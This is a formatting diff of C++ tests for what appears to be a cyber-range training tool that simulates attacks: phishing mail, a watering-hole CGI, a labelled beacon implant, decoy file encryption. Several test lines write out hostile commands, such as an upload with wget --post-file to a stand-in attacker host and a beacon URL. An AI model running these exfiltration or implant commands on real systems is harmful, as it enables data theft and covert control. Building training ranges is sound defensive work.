@@ -39,7 +39,9 @@ struct Fixture : ::testing::Test {
   std::shared_ptr<FakeGuestRunner> runner = std::make_shared<FakeGuestRunner>();
   bool mta = false;
   InjectExecutor exec{[this](const std::string&, const std::string& team) -> Expected<TeamTarget> {
-                        if (team != "t1") return make_error(ErrorCode::not_found, "Team '" + team + "' has no range.");
+                        if (team != "t1")
+                          return make_error(ErrorCode::not_found,
+                                            "Team '" + team + "' has no range.");
                         return TeamTarget{runner, hosts()};
                       },
                       [] { return std::chrono::system_clock::from_time_t(1743499800); }};
@@ -47,9 +49,11 @@ struct Fixture : ::testing::Test {
   void SetUp() override {
     runner->set_handler([this](const std::string&, const std::vector<std::string>& argv) {
       const std::string script = argv.size() > 2 ? argv[2] : "";
-      if (script.find("/usr/sbin/postfix") != std::string::npos) return GuestResult{0, mta ? "mta\n" : "none\n", ""};
+      if (script.find("/usr/sbin/postfix") != std::string::npos)
+        return GuestResult{0, mta ? "mta\n" : "none\n", ""};
       if (script.find("command -v curl") != std::string::npos) return GuestResult{0, "curl\n", ""};
-      if (script.find("/usr/sbin/nginx") != std::string::npos) return GuestResult{0, "busybox\n", ""};
+      if (script.find("/usr/sbin/nginx") != std::string::npos)
+        return GuestResult{0, "busybox\n", ""};
       return GuestResult{0, "", ""};
     });
   }
@@ -90,7 +94,8 @@ TEST_F(Fixture, SendMailOnTinyMailHostFallsBackToMboxAndPostfixLog) {
   EXPECT_NE(spool.find("filename*=UTF-8''"), std::string::npos);
   const std::string s = scripts("mail");
   EXPECT_NE(s.find(">> /var/mail/suzuki.hanako"), std::string::npos) << s;
-  EXPECT_NE(s.find("client=unknown[198.51.100.23]"), std::string::npos) << "the attacker's address is the client";
+  EXPECT_NE(s.find("client=unknown[198.51.100.23]"), std::string::npos)
+      << "the attacker's address is the client";
   EXPECT_NE(s.find("status=sent (delivered to mailbox)"), std::string::npos);
   EXPECT_NE(s.find(">> /var/log/mail.log"), std::string::npos);
   ASSERT_EQ(exec.report(42).size(), 1u);
@@ -105,9 +110,11 @@ TEST_F(Fixture, SendMailToRealMtaUsesCurlFromTheAttacker) {
   ASSERT_TRUE(fire(lure(), 43).ok());
   const std::string s = scripts("attacker");
   EXPECT_NE(s.find("curl -sS --url smtp://172.16.10.25:25 --mail-from 'reporter@abcdef-press.jp'"),
-            std::string::npos) << s;
+            std::string::npos)
+      << s;
   EXPECT_NE(s.find("--mail-rcpt 'suzuki.hanako@city.kakuu.lg.jp'"), std::string::npos);
-  EXPECT_NE(runner->file("attacker", "/var/spool/cyrange/outbox/43.mail.eml").find("Message-ID: <43.mail."),
+  EXPECT_NE(runner->file("attacker", "/var/spool/cyrange/outbox/43.mail.eml")
+                .find("Message-ID: <43.mail."),
             std::string::npos);
   EXPECT_NE(exec.report(43)[0].find("smtp-curl"), std::string::npos);
   EXPECT_EQ(scripts("mail").find("/var/mail/"), std::string::npos);
@@ -119,7 +126,8 @@ TEST_F(Fixture, ARerunWithTheSameExecutionIdDoesNothing) {
   ASSERT_TRUE(fire(lure(), 50).ok());
   const auto calls = runner->calls();
   ASSERT_EQ(calls.size(), first + 1) << "only the marker check may run again";
-  EXPECT_EQ(calls.back().argv, (std::vector<std::string>{"test", "-e", "/var/lib/cyrange/steps/50"}));
+  EXPECT_EQ(calls.back().argv,
+            (std::vector<std::string>{"test", "-e", "/var/lib/cyrange/steps/50"}));
   EXPECT_NE(exec.report(50)[0].find("already done"), std::string::npos);
   ASSERT_TRUE(fire(lure(), 51).ok());
   EXPECT_GT(runner->calls().size(), first + 2) << "a new execution id runs again";
@@ -129,7 +137,9 @@ TEST_F(Fixture, ARerunWithTheSameExecutionIdDoesNothing) {
 TEST_F(Fixture, EveryGuestActionCarriesItsOwnMarker) {
   ASSERT_TRUE(fire(lure(), 60).ok());
   const std::string s = scripts("mail");
-  EXPECT_NE(s.find("m='/var/lib/cyrange/steps/60.mail'\n[ -e \"$m\" ] && exit 0"), std::string::npos) << s;
+  EXPECT_NE(s.find("m='/var/lib/cyrange/steps/60.mail'\n[ -e \"$m\" ] && exit 0"),
+            std::string::npos)
+      << s;
 }
 
 TEST_F(Fixture, ParameterErrorsNameTheStepAndTheParameter) {
@@ -137,11 +147,13 @@ TEST_F(Fixture, ParameterErrorsNameTheStepAndTheParameter) {
   item.params.erase("to");
   auto st = fire(item, 70);
   ASSERT_FALSE(st.ok());
-  EXPECT_NE(st.error().message.find("Step 'lure-attachment'"), std::string::npos) << st.error().message;
+  EXPECT_NE(st.error().message.find("Step 'lure-attachment'"), std::string::npos)
+      << st.error().message;
   EXPECT_NE(st.error().message.find("parameter 'to'"), std::string::npos) << st.error().message;
   EXPECT_TRUE(runner->calls().empty()) << "nothing runs before validation passes";
 
-  auto beacon = step("c2-beacon", "beacon", "ws01", {{"url", "http://x/cgi-bin/u"}, {"interval_seconds", "soon"}});
+  auto beacon = step("c2-beacon", "beacon", "ws01",
+                     {{"url", "http://x/cgi-bin/u"}, {"interval_seconds", "soon"}});
   st = fire(beacon, 71);
   ASSERT_FALSE(st.ok());
   EXPECT_NE(st.error().message.find("Step 'c2-beacon'"), std::string::npos);
@@ -173,10 +185,12 @@ TEST_F(Fixture, ScatterSendsOneMessagePerRecipient) {
   int emls = 0;
   for (const auto& f : files) emls += f.find(".eml") != std::string::npos ? 1 : 0;
   EXPECT_EQ(emls, 3);
-  EXPECT_NE(runner->file("mail", "/var/spool/cyrange/inbound/80.r2.eml").find("To: c@city.kakuu.lg.jp\n"),
-            std::string::npos);
+  EXPECT_NE(
+      runner->file("mail", "/var/spool/cyrange/inbound/80.r2.eml").find("To: c@city.kakuu.lg.jp\n"),
+      std::string::npos);
   const std::string s = scripts("mail");
-  for (const char* box : {"/var/mail/a", "/var/mail/b", "/var/mail/c"}) EXPECT_NE(s.find(box), std::string::npos);
+  for (const char* box : {"/var/mail/a", "/var/mail/b", "/var/mail/c"})
+    EXPECT_NE(s.find(box), std::string::npos);
 }
 
 TEST_F(Fixture, ExchangeBuildsOneThreadEndingWithTheLure) {
@@ -211,8 +225,9 @@ struct Scratch {
 };
 
 TEST_F(Fixture, WateringHoleCgiServesTheScriptOnlyToTargetRanges) {
-  auto item = step("wh", "watering_hole", "portal",
-                   {{"cidrs", "10.30.0.0/24, 10.20.0.0/16"}, {"script_url", "http://cdn-x.net/s.js"}});
+  auto item =
+      step("wh", "watering_hole", "portal",
+           {{"cidrs", "10.30.0.0/24, 10.20.0.0/16"}, {"script_url", "http://cdn-x.net/s.js"}});
   ASSERT_TRUE(fire(item, 100).ok());
   std::string cgi = runner->file("portal", "/www/cgi-bin/index.cgi");
   ASSERT_NE(cgi.find("CYRANGE TRAINING SIMULATION"), std::string::npos);
@@ -223,12 +238,15 @@ TEST_F(Fixture, WateringHoleCgiServesTheScriptOnlyToTargetRanges) {
   cgi = testing::replace_all(cgi, "/var/lib/cyrange/portal/clean-index.html", clean);
   cgi = testing::replace_all(cgi, "/var/log/portal-access.log", log);
   auto visit = [&](const std::string& addr) {
-    return testing::run_local({"/bin/sh", "-c", cgi, "sh"}, tmp.dir.string(), "REMOTE_ADDR=" + addr).out;
+    return testing::run_local({"/bin/sh", "-c", cgi, "sh"}, tmp.dir.string(), "REMOTE_ADDR=" + addr)
+        .out;
   };
   const std::string inside = visit("10.30.0.101");
   const std::string deep = visit("[::ffff:10.20.7.9]");
   const std::string outside = visit("198.51.100.99");
-  EXPECT_NE(inside.find("<script src=\"http://cdn-x.net/s.js\"></script></body>"), std::string::npos) << inside;
+  EXPECT_NE(inside.find("<script src=\"http://cdn-x.net/s.js\"></script></body>"),
+            std::string::npos)
+      << inside;
   EXPECT_NE(deep.find("cdn-x.net"), std::string::npos) << deep;
   EXPECT_EQ(outside.find("script"), std::string::npos) << outside;
   EXPECT_NE(outside.find("news"), std::string::npos);
@@ -248,13 +266,15 @@ TEST_F(Fixture, EncryptionTouchesOnlyTheDecoysItCreatedAndIsReversible) {
     return r;
   });
   const std::string folder = (tmp.dir / "share" / "decoy").string();
-  ASSERT_TRUE(fire(step("enc", "encrypt_decoys", "files", {{"folder", folder}, {"files", "3"}}), 110).ok());
+  ASSERT_TRUE(
+      fire(step("enc", "encrypt_decoys", "files", {{"folder", folder}, {"files", "3"}}), 110).ok());
   EXPECT_FALSE(std::filesystem::exists(folder + "/decoy_1.txt"));
   ASSERT_TRUE(std::filesystem::exists(folder + "/decoy_3.txt.locked"));
   EXPECT_TRUE(std::filesystem::exists(folder + "/README_RESTORE.txt"));
-  auto restored = testing::run_local(
-      {"/bin/sh", "-c", "tr 'A-Za-z' 'N-ZA-Mn-za-m' < \"$1\" | base64 -d", "sh", folder + "/decoy_2.txt.locked"},
-      tmp.dir.string());
+  auto restored =
+      testing::run_local({"/bin/sh", "-c", "tr 'A-Za-z' 'N-ZA-Mn-za-m' < \"$1\" | base64 -d", "sh",
+                          folder + "/decoy_2.txt.locked"},
+                         tmp.dir.string());
   EXPECT_EQ(restored.out, "DECOY document 2 - training data only\n");
 
   const std::string foreign = (tmp.dir / "real").string();
@@ -262,7 +282,8 @@ TEST_F(Fixture, EncryptionTouchesOnlyTheDecoysItCreatedAndIsReversible) {
   std::ofstream(foreign + "/keep.txt") << "mine";
   auto st = fire(step("enc2", "encrypt_decoys", "files", {{"folder", foreign}}), 111);
   ASSERT_FALSE(st.ok());
-  EXPECT_NE(st.error().message.find("not created by this step"), std::string::npos) << st.error().message;
+  EXPECT_NE(st.error().message.find("not created by this step"), std::string::npos)
+      << st.error().message;
   EXPECT_TRUE(std::filesystem::exists(foreign + "/keep.txt"));
   EXPECT_FALSE(fire(step("enc3", "encrypt_decoys", "files", {{"folder", "/"}}), 112).ok());
 }
@@ -276,18 +297,24 @@ TEST_F(Fixture, BeaconPlantsALabelledBoundedImplant) {
   ASSERT_TRUE(fire(item, 120).ok());
   const std::string implant = runner->file("ws01", "/tmp/.cache/update-120.sh");
   EXPECT_NE(implant.find("CYRANGE TRAINING SIMULATION - HARMLESS"), std::string::npos);
-  EXPECT_NE(implant.find("url='http://198.51.100.23/cgi-bin/update' interval=60 jitter=10"), std::string::npos);
+  EXPECT_NE(implant.find("url='http://198.51.100.23/cgi-bin/update' interval=60 jitter=10"),
+            std::string::npos);
   EXPECT_NE(implant.find("export http_proxy='http://172.16.10.8:3128'"), std::string::npos);
   EXPECT_NE(implant.find("/var/lib/cyrange/implant/120.stop"), std::string::npos);
-  EXPECT_EQ(implant.find("eval"), std::string::npos) << "the implant must never execute received text";
-  EXPECT_NE(scripts("ws01").find("setsid sh '/tmp/.cache/update-120.sh' </dev/null"), std::string::npos);
-  EXPECT_NE(runner->file("attacker", "/www/cgi-bin/update").find("/var/log/c2-access.log"), std::string::npos);
+  EXPECT_EQ(implant.find("eval"), std::string::npos)
+      << "the implant must never execute received text";
+  EXPECT_NE(scripts("ws01").find("setsid sh '/tmp/.cache/update-120.sh' </dev/null"),
+            std::string::npos);
+  EXPECT_NE(runner->file("attacker", "/www/cgi-bin/update").find("/var/log/c2-access.log"),
+            std::string::npos);
   EXPECT_EQ(exec.technique(item), "T1071.001");
 }
 
 TEST_F(Fixture, TraineeNoticeIsBilingual) {
   auto item = step("isp", "trainee_notice", "ws01",
-                   {{"sender", "Kakuu ISP"}, {"text_ja", "感染の疑いがあります"}, {"text_en", "Possible infection"}});
+                   {{"sender", "Kakuu ISP"},
+                    {"text_ja", "感染の疑いがあります"},
+                    {"text_en", "Possible infection"}});
   item.category = "inject";
   ASSERT_TRUE(fire(item, 130).ok());
   const std::string note = runner->file("ws01", "/home/trainee/inbox/130-isp.txt");
@@ -301,30 +328,37 @@ TEST_F(Fixture, TraineeNoticeIsBilingual) {
 }
 
 TEST_F(Fixture, HostStepsBuildTheExpectedCommands) {
-  ASSERT_TRUE(fire(step("disc", "run_commands", "ws01", {{"commands", "hostname; ls /srv"}}), 140).ok());
+  ASSERT_TRUE(
+      fire(step("disc", "run_commands", "ws01", {{"commands", "hostname; ls /srv"}}), 140).ok());
   const std::string s = scripts("ws01");
   EXPECT_NE(s.find("echo 'hostname' >> '/root/.ash_history'"), std::string::npos) << s;
   EXPECT_NE(s.find("timeout 30 sh -c 'ls /srv'"), std::string::npos);
   ASSERT_TRUE(fire(step("exfil", "upload", "ws01",
-                        {{"destination", "http://198.51.100.23/cgi-bin/upload"}, {"archive", "bk_a1b2c3.7z"},
+                        {{"destination", "http://198.51.100.23/cgi-bin/upload"},
+                         {"archive", "bk_a1b2c3.7z"},
                          {"size_mb", "2"}}),
                    141)
                   .ok());
-  EXPECT_NE(scripts("ws01").find("--post-file '/tmp/bk_a1b2c3.7z' 'http://198.51.100.23/cgi-bin/upload'"),
-            std::string::npos);
+  EXPECT_NE(
+      scripts("ws01").find("--post-file '/tmp/bk_a1b2c3.7z' 'http://198.51.100.23/cgi-bin/upload'"),
+      std::string::npos);
   EXPECT_NE(scripts("ws01").find("head -c 2101248 /dev/urandom"), std::string::npos);
-  ASSERT_TRUE(fire(step("dns", "dns_query", "ws01", {{"domain", "cdn-x.net"}, {"count", "3"}}), 142).ok());
+  ASSERT_TRUE(
+      fire(step("dns", "dns_query", "ws01", {{"domain", "cdn-x.net"}, {"count", "3"}}), 142).ok());
   EXPECT_NE(scripts("ws01").find("nslookup"), std::string::npos);
 }
 
 TEST(InjectRouting, RouteAllSendsEveryKnownTypeToTheLibrary) {
   auto runner = std::make_shared<FakeGuestRunner>();
   auto inject = std::make_shared<InjectExecutor>(
-      [runner](const std::string&, const std::string&) -> Expected<TeamTarget> { return TeamTarget{runner, hosts()}; });
+      [runner](const std::string&, const std::string&) -> Expected<TeamTarget> {
+        return TeamTarget{runner, hosts()};
+      });
   auto fallback = std::make_shared<timeline::RecordingExecutor>();
   timeline::RoutingExecutor router(fallback);
   InjectExecutor::route_all(router, inject);
-  auto item = step("isp", "trainee_notice", "ws01", {{"text_ja", "お知らせ"}, {"text_en", "Notice"}});
+  auto item =
+      step("isp", "trainee_notice", "ws01", {{"text_ja", "お知らせ"}, {"text_en", "Notice"}});
   StepContext c;
   c.execution_id = 7;
   c.team = "t1";
@@ -332,8 +366,9 @@ TEST(InjectRouting, RouteAllSendsEveryKnownTypeToTheLibrary) {
   ASSERT_TRUE(router.execute(c).ok());
   EXPECT_TRUE(fallback->calls().empty());
   EXPECT_FALSE(runner->file("ws01", "/home/trainee/inbox/7-isp.txt").empty());
-  for (const char* t : {"send_mail", "scatter_mail", "mail_exchange", "watering_hole", "beacon", "open_attachment",
-                        "run_commands", "smb_copy", "stage_files", "upload", "dns_query", "encrypt_decoys"}) {
+  for (const char* t :
+       {"send_mail", "scatter_mail", "mail_exchange", "watering_hole", "beacon", "open_attachment",
+        "run_commands", "smb_copy", "stage_files", "upload", "dns_query", "encrypt_decoys"}) {
     EXPECT_NE(inject->find(t), nullptr) << t;
   }
 }
